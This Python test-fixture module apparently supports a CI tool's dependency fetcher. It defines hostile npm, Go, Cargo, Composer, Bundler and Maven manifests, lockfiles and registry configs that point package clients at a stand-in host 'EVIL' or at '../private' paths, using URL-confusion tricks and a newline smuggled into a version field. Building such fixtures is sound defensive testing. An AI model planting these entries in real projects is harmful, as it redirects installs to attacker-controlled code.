"""Projects that would have a package client ask EVIL, the address of a listener; `__` stands for `.` in names."""

from __future__ import annotations

import json

from ci_eval.fetch.locks import NPM_REGISTRY

Files = dict[str, str]

X = {"name": "x", "version": "1.0.0"}


def _npm(entry: object, *, needs: object = None, at: str = "node_modules/x", **more: object) -> Files:
    """A project whose lock has an entry for x, which its package.json needs."""
    manifest = {"name": "h", "version": "1.0.0", "dependencies": needs or {"x": "*"}, **more}
    packages = {"": manifest, at: entry}
    lock = {"name": "h", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}
    return {"package__json": json.dumps(manifest), "package-lock__json": json.dumps(lock)}


def _older(entry: object) -> Files:
    lock = {"name": "h", "version": "1.0.0", "lockfileVersion": 1, "requires": True, "dependencies": {"x": entry}}
    return {**_bare(x="*"), "package-lock__json": json.dumps(lock)}


def _bare(**needs: str) -> Files:
    return {"package__json": json.dumps({"name": "h", "version": "1.0.0", "dependencies": needs})}


def _manifest(**more: object) -> Files:
    return {"package__json": json.dumps({"name": "h", "version": "1.0.0", "dependencies": {"x": "1.0.0"}, **more})}


TGZ = "http://EVIL/x.tgz"
NPM: dict[str, Files] = {
    "a version that is an address": _npm({"version": TGZ}),
    "a version that is git": _npm({"version": "git+http://EVIL/x.git"}),
    "a version that is an alias": _npm({"version": f"npm:x@{TGZ}"}),
    "a name with an address": _npm({"name": f"x@{TGZ}", "version": "1.0.0"}),
    "a name with git": _npm({"name": "x@git+http://EVIL/x.git#", "version": "1.0.0"}),
    "a needed entry for development": _npm({"version": "1.0.0", "dev": True, "resolved": TGZ}),
    "an optional entry": _npm({"version": "1.0.0", "optional": True, "resolved": TGZ}),
    "a peer": _npm({"version": "1.0.0", "peer": True, "resolved": TGZ}),
    "a backslash before the host": _npm({"version": "1.0.0", "resolved": f"http://EVIL\\@{NPM_REGISTRY}/x.tgz"}),
    "a registry for a user": _npm({"version": "1.0.0", "resolved": f"http://{NPM_REGISTRY}@EVIL/x.tgz"}),
    "blanks in an address": _npm({"version": "1.0.0", "resolved": " \thttp://EVIL/x.tgz"}),
    "a line end in a version": _npm({"version": "1.0.0\n@http://EVIL/x.tgz"}),
    "an optional dependency": _npm(X, optionalDependencies={"y": "http://EVIL/y.tgz"}),
    "a peer dependency": _npm(X, peerDependencies={"y": "http://EVIL/y.tgz"}),
    "a development dependency": _npm(X, devDependencies={"y": "http://EVIL/y.tgz"}),
    "an override": _npm(X, overrides={"x": TGZ}),
    "a dependency of an entry": _npm({**X, "dependencies": {"y": "http://EVIL/y.tgz"}}),
    "a bundle": _npm({**X, "bundleDependencies": ["y"], "dependencies": {"y": "http://EVIL/y.tgz"}}),
    "a link": _npm({"resolved": TGZ, "link": True}),
    "a link to the outside": _npm({"resolved": "../private", "link": True}),
    "a folder outside": _npm({"version": "file:../private"}),
    "an archive outside": _npm({"version": "1.0.0", "resolved": "file:../private/x.tgz"}),
    "an older lock": _older({"version": TGZ}),
    "an older lock's address": _older({"version": "1.0.0", "resolved": TGZ, "dev": True}),
    "an older lock's depth": _older({**X, "requires": {"y": "*"}, "dependencies": {"y": {"version": TGZ}}}),
    "a shrinkwrap": {"npm-shrinkwrap__json": _npm({"version": TGZ})["package-lock__json"], **_npm(X)},
    "settings of the project": {**_npm(X), "__npmrc": "registry=http://EVIL/\nproxy=http://EVIL/\n"},
    "a range that is an address": _bare(x=TGZ),
    "a name that is an address": _bare(**{f"x@{TGZ}": "*"}),
    "an alias that is an address": _bare(x=f"npm:x@{TGZ}"),
    "no lock, but an override": _manifest(overrides={"x": TGZ}),
    "no lock, but a peer": _manifest(peerDependencies={"y": TGZ}),
    "a package of the registry that needs an address": _bare(wants="*"),
    "a package of the registry that is elsewhere": _bare(elsewhere="*"),
}  # fmt: skip

_GO = "module example.org/h\n\ngo 1.20\n\n"
GO: dict[str, Files] = {
    "a host": {"go__mod": f"{_GO}require evil.example/x v1.0.0\n"},
    "a repository": {"go__mod": f"{_GO}require evil.example/x.git v1.0.0\n"},
    "this machine": {"go__mod": f"{_GO}require 127.0.0.1/evil.git v0.0.0-20200101000000-0123456789ab\n"},
    "a quoted block": {"go__mod": f'{_GO}require (\n\t"evil.example/x" v1.0.0 // indirect\n)\n'},
    "a branch": {"go__mod": f"{_GO}require evil.example/x main\n"},
    "another module": {
        "go__mod": f"{_GO}require example.org/x v1.0.0\nreplace example.org/x => evil.example/x v1.0.0\n"
    },
    "a folder outside": {"go__mod": f"{_GO}require example.org/x v1.0.0\nreplace example.org/x => ../private\n"},
    "a module of the project": {
        "go__mod": f"{_GO}require example.org/b v1.0.0\nreplace example.org/b => ./b\n",
        "b/go__mod": "module example.org/b\n\nrequire evil.example/x v1.0.0\n",
    },
    "a toolchain": {"go__mod": f"{_GO}toolchain go1.99.9\n\nrequire evil.example/x v1.0.0\n"},
    "a newer go": {"go__mod": "module example.org/h\n\ngo 1.99\n"},
    "a tool": {"go__mod": f"{_GO}tool evil.example/x\nrequire evil.example/x v1.0.0\n"},
    "a workspace": {"go__mod": _GO, "go__work": "go 1.20\nuse ../private\nreplace a.b/x => evil.example/x v1.0.0\n"},
    "sums": {
        "go__mod": f"{_GO}require evil.example/x v1.0.0\n",
        "go__sum": f"evil.example/x v1.0.0 h1:{'A' * 43}=\nevil.example/x v1.0.0/go.mod h1:{'A' * 43}=\n",
    },
}  # fmt: skip

_CARGO = '[package]\nname = "h"\nversion = "1.0.0"\nedition = "2021"\n[lib]\npath = "lib.rs"\n[dependencies]\n'
CARGO: dict[str, Files] = {
    "git": {"Cargo__toml": f'{_CARGO}x = {{ git = "http://EVIL/x" }}\n', "lib__rs": ""},
    "a registry": {
        "Cargo__toml": f'{_CARGO}x = {{ version = "1", registry = "r" }}\n',
        "__cargo/config__toml": '[registries.r]\nindex = "sparse+http://EVIL/"\n',
        "lib__rs": "",
    },
    "a source in place of the registry": {
        "Cargo__toml": f'{_CARGO}x = "1"\n',
        "__cargo/config__toml": '[source.crates-io]\nreplace-with = "r"\n[source.r]\nregistry = "sparse+http://EVIL/"\n',
        "lib__rs": "",
    },
    "a lock": {
        "Cargo__toml": f'{_CARGO}x = "1"\n',
        "Cargo__lock": 'version = 3\n[[package]]\nname = "x"\nversion = "1.0.0"\nsource = "sparse+http://EVIL/"\n',
        "__cargo/config__toml": '[source.crates-io]\nreplace-with = "r"\n[source.r]\nregistry = "sparse+http://EVIL/"\n',
        "lib__rs": "",
    },
}

_LOCKED = {"name": "a/x", "version": "1.0.0", "dist": {"type": "zip", "url": "http://EVIL/x.zip"}}
_OPEN = {"secure-http": False}
COMPOSER: dict[str, Files] = {
    "a repository": {
        "composer__json": json.dumps(
            {"require": {"a/x": "*"}, "repositories": [{"type": "composer", "url": "http://EVIL"}], "config": _OPEN}
        )
    },
    "git": {
        "composer__json": json.dumps(
            {"require": {"a/x": "*"}, "repositories": [{"type": "git", "url": "http://EVIL/x.git"}], "config": _OPEN}
        )
    },
    "a lock": {
        "composer__json": json.dumps({"require": {"a/x": "1.0.0"}, "config": _OPEN}),
        "composer__lock": json.dumps({"packages": [_LOCKED], "packages-dev": []}),
    },
}
BUNDLER: dict[str, Files] = {
    "a source": {"Gemfile": 'source "http://EVIL"\ngem "x"\n'},
    "git": {"Gemfile": 'gem "x", git: "http://EVIL/x.git"\n'},
    "a mirror": {
        "Gemfile": 'source "http://gems.example"\ngem "x"\n',
        "__bundle/config": 'BUNDLE_MIRROR__HTTP://GEMS__EXAMPLE/: "http://EVIL"\n',
    },
    "a lock": {
        "Gemfile": 'source "http://EVIL"\ngem "x"\n',
        "Gemfile__lock": "GEM\n  remote: http://EVIL/\n  specs:\n    x (1.0.0)\n\nDEPENDENCIES\n  x\n",
    },
}

_REPOSITORY = "<repository><id>{}</id><url>http://EVIL/</url></repository>"
_MISSING = "<groupId>ci.eval.hostile</groupId><artifactId>missing</artifactId><version>1</version>"
_NEEDS = f"<dependencies><dependency>{_MISSING}</dependency></dependencies>"
MAVEN = {
    "a repository": f"<repositories>{_REPOSITORY.format('evil')}</repositories>{_NEEDS}",
    "a repository that is said to be central": f"<repositories>{_REPOSITORY.format('central')}</repositories>{_NEEDS}",
    "a repository of a profile": "<profiles><profile><id>p</id><activation><activeByDefault>true</activeByDefault>"
    f"</activation><repositories>{_REPOSITORY.format('evil')}</repositories></profile></profiles>{_NEEDS}",
    "a parent": f"<parent>{_MISSING}</parent><repositories>{_REPOSITORY.format('evil')}</repositories>",
}
"""What the POM of an artifact says besides its name."""
